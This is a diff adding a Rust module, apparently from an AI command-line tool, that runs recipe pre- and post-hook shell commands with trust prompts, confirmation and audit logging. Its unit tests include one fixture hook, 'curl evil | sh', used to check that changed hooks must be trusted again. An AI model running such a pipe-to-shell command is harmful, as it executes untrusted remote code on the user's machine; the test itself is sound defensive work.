@@ -0,0 +1,371 @@
+//! Shell commands a recipe runs around the model
+//!
+//! A recipe's `pre_hook` runs before the model is called, and what it
+//! prints is added to the system prompt as context, so a recipe can start
+//! from the output of `git diff --staged` or a failing test run without
+//! waiting for a tool call. Its `post_hook` runs once the answer is in and
+//! reads the answer on standard input, to file it, post it or act on it;
+//! what it prints goes to stderr, leaving stdout to the answer.
+//!
+//! Hooks are shell commands like the ones tools run, and run the same
+//! way: through the configured execution backend, in the isolated worktree
+//! of `--isolated` runs, and recorded in the audit log. The hooks of a
+//! recipe installed from elsewhere only run once the user trusted them,
+//! and any hook is asked about first when the recipe's `confirm` covers
+//! `exec`. A hook that can't be started or exits with a failure fails the
+//! run.
+
+use std::fmt::Write as _;
+use std::io;
+use std::path::PathBuf;
+use std::process::Stdio;
+
+use log::warn;
+use serde_json::json;
+use tokio::io::AsyncWriteExt;
+use tokio::process::Command;
+
+use super::install::Installed;
+use super::{Recipe, RecipeError, RecipeStore};
+use crate::audit::{AuditEntry, AuditLog, AuditStatus};
+use crate::tools::Capability;
+use crate::tools::exec::ExecBackend;
+
+/// The hooks of an installed recipe the user hasn't trusted yet
+#[derive(Debug, Clone)]
+pub struct UntrustedHooks {
+    store: RecipeStore,
+    name: String,
+    /// See [`super::install::hooks_digest`]
+    digest: String,
+    /// Where the recipe was installed from
+    source: String,
+}
+
+impl UntrustedHooks {
+    pub(super) fn new(
+        store: RecipeStore,
+        name: &str,
+        digest: String,
+        source: &str,
+    ) -> Self {
+        Self {
+            store,
+            name: name.to_owned(),
+            digest,
+            source: source.to_owned(),
+        }
+    }
+
+    /// Records that the user trusts these hooks
+    fn trust(&self) -> Result<(), RecipeError> {
+        let mut installed =
+            Installed::load(&self.store).map_err(io::Error::other)?;
+        installed.trust(&self.name, &self.digest).map_err(io::Error::other)?;
+        installed.save().map_err(io::Error::other)?;
+        Ok(())
+    }
+}
+
+/// Where hooks run and are recorded
+pub struct HookEnv<'a> {
+    /// The backend tools run their programs with
+    pub exec: &'a ExecBackend,
+    pub working_dir: PathBuf,
+    pub audit: Option<&'a AuditLog>,
+}
+
+/// Makes sure the hooks of `recipe` may run, asking the user with `ask`
+/// if they have to be trusted first or the recipe's `confirm` covers
+/// `exec`
+///
+/// Trusting the hooks of an installed recipe is remembered. When the user
+/// can't be asked, `ask` fails, and so do untrusted hooks.
+pub fn approve(
+    recipe: &Recipe,
+    ask: impl Fn(&str) -> io::Result<bool>,
+) -> Result<(), RecipeError> {
+    let header = recipe.header();
+    let hooks =
+        [("pre_hook", header.pre_hook()), ("post_hook", header.post_hook())]
+            .into_iter()
+            .filter_map(|(hook, command)| {
+                command.map(|command| format!("{hook} `{command}`"))
+            })
+            .collect::<Vec<_>>();
+    if hooks.is_empty() {
+        return Ok(());
+    }
+
+    if let Some(untrusted) = recipe.untrusted_hooks() {
+        let question = format!(
+            "Recipe '{}' was installed from {} and runs {}. Trust these \
+             hooks?",
+            untrusted.name,
+            untrusted.source,
+            hooks.join(" and ")
+        );
+        return match ask(&question) {
+            Ok(true) => untrusted.trust(),
+            Ok(false) | Err(_) => Err(RecipeError::UntrustedHooks {
+                name: untrusted.name.clone(),
+                location: untrusted.source.clone(),
+            }),
+        };
+    }
+
+    if header.confirm().requires(Capability::Exec)
+        && !ask(&format!("Run the recipe's {}?", hooks.join(" and ")))?
+    {
+        return Err(RecipeError::HooksDeclined);
+    }
+
+    Ok(())
+}
+
+/// Runs the pre-hook `command`, returning what it printed
+pub async fn run_pre_hook(
+    env: &HookEnv<'_>,
+    command: &str,
+) -> Result<String, RecipeError> {
+    let failed = |reason: String| {
+        record(env, "pre_hook", command, AuditStatus::Error, &reason);
+        RecipeError::HookFailed {
+            hook: "pre_hook",
+            command: command.to_owned(),
+            reason,
+        }
+    };
+
+    let output = shell(env, command)
+        .stdin(Stdio::null())
+        .stderr(Stdio::inherit())
+        .output()
+        .await
+        .map_err(|e| failed(e.to_string()))?;
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    if !output.status.success() {
+        return Err(failed(output.status.to_string()));
+    }
+
+    record(env, "pre_hook", command, AuditStatus::Ok, &stdout);
+    Ok(stdout)
+}
+
+/// Runs the post-hook `command` with `answer` on its standard input
+pub async fn run_post_hook(
+    env: &HookEnv<'_>,
+    command: &str,
+    answer: &str,
+) -> Result<(), RecipeError> {
+    let failed = |reason: String| {
+        record(env, "post_hook", command, AuditStatus::Error, &reason);
+        RecipeError::HookFailed {
+            hook: "post_hook",
+            command: command.to_owned(),
+            reason,
+        }
+    };
+
+    let mut child = shell(env, command)
+        .stdin(Stdio::piped())
+        .stdout(io::stderr())
+        .spawn()
+        .map_err(|e| failed(e.to_string()))?;
+    if let Some(mut stdin) = child.stdin.take() {
+        // A hook that doesn't read all of the answer closes the pipe early
+        match stdin.write_all(answer.as_bytes()).await {
+            Err(e) if e.kind() != io::ErrorKind::BrokenPipe => {
+                return Err(failed(e.to_string()));
+            }
+            _ => {}
+        }
+    }
+
+    let status = child.wait().await.map_err(|e| failed(e.to_string()))?;
+    if !status.success() {
+        return Err(failed(status.to_string()));
+    }
+
+    record(env, "post_hook", command, AuditStatus::Ok, "");
+    Ok(())
+}
+
+/// Adds the `output` of the pre-hook `command` to the end of
+/// `system_prompt`
+pub fn add_context(system_prompt: &mut String, command: &str, output: &str) {
+    let output = output.trim_end();
+    let output = if output.is_empty() { "(no output)" } else { output };
+    let _ = write!(
+        system_prompt,
+        "\n\nOutput of `{command}`:\n\n```\n{output}\n```"
+    );
+}
+
+/// A command running `command` with the shell, the way `env` runs
+/// programs
+fn shell(env: &HookEnv<'_>, command: &str) -> Command {
+    let (program, flag) =
+        if cfg!(windows) { ("cmd", "/C") } else { ("sh", "-c") };
+
+    let mut shell =
+        env.exec.command(program, &env.working_dir, Capability::Exec);
+    shell.arg(flag).arg(command);
+    Command::from(shell)
+}
+
+/// Appends a run of `hook` to the audit log, if there is one; failing to
+/// write it doesn't stop the run
+fn record(
+    env: &HookEnv<'_>,
+    hook: &str,
+    command: &str,
+    status: AuditStatus,
+    output: &str,
+) {
+    let Some(audit) = env.audit else {
+        return;
+    };
+
+    let input = [("command".to_owned(), json!(command))].into();
+    if let Err(e) =
+        audit.record(&AuditEntry::new(hook, &input, status, output))
+    {
+        warn!("Failed to record the {hook} in the audit log: {e}");
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::recipe::install::{Fetched, Installed};
+
+    fn temp_dir(name: &str) -> std::path::PathBuf {
+        let dir = std::env::temp_dir()
+            .join(format!("aido-hooks-{name}-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        dir
+    }
+
+    #[tokio::test]
+    #[cfg(unix)]
+    async fn test_run_pre_hook() {
+        let dir = temp_dir("pre");
+        let audit = AuditLog::new(dir.join("audit.jsonl"));
+        let env = HookEnv {
+            exec: &ExecBackend::Host,
+            working_dir: dir.clone(),
+            audit: Some(&audit),
+        };
+
+        let output = run_pre_hook(&env, "echo hello; pwd").await.unwrap();
+        assert_eq!(output, format!("hello\n{}\n", dir.display()));
+
+        let error = run_pre_hook(&env, "exit 3").await.unwrap_err();
+        assert!(
+            matches!(&error, RecipeError::HookFailed { hook: "pre_hook", .. }),
+            "{error}"
+        );
+        assert!(error.to_string().contains("exit 3"), "{error}");
+
+        let entries = audit.entries().unwrap();
+        assert_eq!(entries.len(), 2);
+        assert_eq!(entries[0].tool, "pre_hook");
+        assert_eq!(entries[0].arguments["command"], "echo hello; pwd");
+        assert_eq!(entries[1].status, AuditStatus::Error);
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[tokio::test]
+    #[cfg(unix)]
+    async fn test_run_post_hook() {
+        let dir = temp_dir("post");
+        let env = HookEnv {
+            exec: &ExecBackend::Host,
+            working_dir: dir.clone(),
+            audit: None,
+        };
+
+        run_post_hook(&env, "cat > answer.txt", "42").await.unwrap();
+        assert_eq!(
+            std::fs::read_to_string(dir.join("answer.txt")).unwrap(),
+            "42"
+        );
+
+        // Not reading the answer is fine; failing isn't
+        run_post_hook(&env, "true", "42").await.unwrap();
+        assert!(
+            run_post_hook(&env, "cat > /dev/null; false", "42").await.is_err()
+        );
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_approve_installed_hooks() {
+        let dir = temp_dir("trust");
+        let store = RecipeStore::new(&dir);
+        let content = "---\npre_hook: git diff\n---\nReview.";
+        let fetched =
+            Fetched::from_file("review.recipe", content, "https://host")
+                .unwrap();
+        let mut installed = Installed::load(&store).unwrap();
+        installed.apply(&store, fetched, "https://host", false).unwrap();
+        installed.save().unwrap();
+
+        let recipe = store.get("review").unwrap();
+        assert!(recipe.untrusted_hooks().is_some());
+
+        let error = approve(&recipe, |_| Ok(false)).unwrap_err();
+        assert!(matches!(error, RecipeError::UntrustedHooks { .. }));
+        let error =
+            approve(&recipe, |_| Err(io::Error::other("no tty"))).unwrap_err();
+        assert!(matches!(error, RecipeError::UntrustedHooks { .. }));
+
+        approve(&recipe, |question| Ok(question.contains("`git diff`")))
+            .unwrap();
+        let recipe = store.get("review").unwrap();
+        assert!(recipe.untrusted_hooks().is_none());
+        approve(&recipe, |_| panic!("should not ask")).unwrap();
+
+        // Changed hooks have to be trusted again
+        std::fs::write(
+            dir.join("review.recipe"),
+            "---\npre_hook: curl evil | sh\n---\nReview.",
+        )
+        .unwrap();
+        assert!(store.get("review").unwrap().untrusted_hooks().is_some());
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_approve_confirmed_hooks() {
+        let local = Recipe::parse("---\npost_hook: cat\n---\nHi.").unwrap();
+        approve(&local, |_| panic!("should not ask")).unwrap();
+
+        let confirmed =
+            Recipe::parse("---\npost_hook: cat\nconfirm: [exec]\n---\nHi.")
+                .unwrap();
+        approve(&confirmed, |_| Ok(true)).unwrap();
+        assert!(matches!(
+            approve(&confirmed, |_| Ok(false)),
+            Err(RecipeError::HooksDeclined)
+        ));
+    }
+
+    #[test]
+    fn test_add_context() {
+        let mut prompt = "Review the diff.".to_owned();
+        add_context(&mut prompt, "git diff", "+ added\n");
+        assert_eq!(
+            prompt,
+            "Review the diff.\n\nOutput of `git diff`:\n\n```\n+ added\n```"
+        );
+
+        let mut prompt = String::new();
+        add_context(&mut prompt, "true", "");
+        assert!(prompt.ends_with("```\n(no output)\n```"));
+    }
+}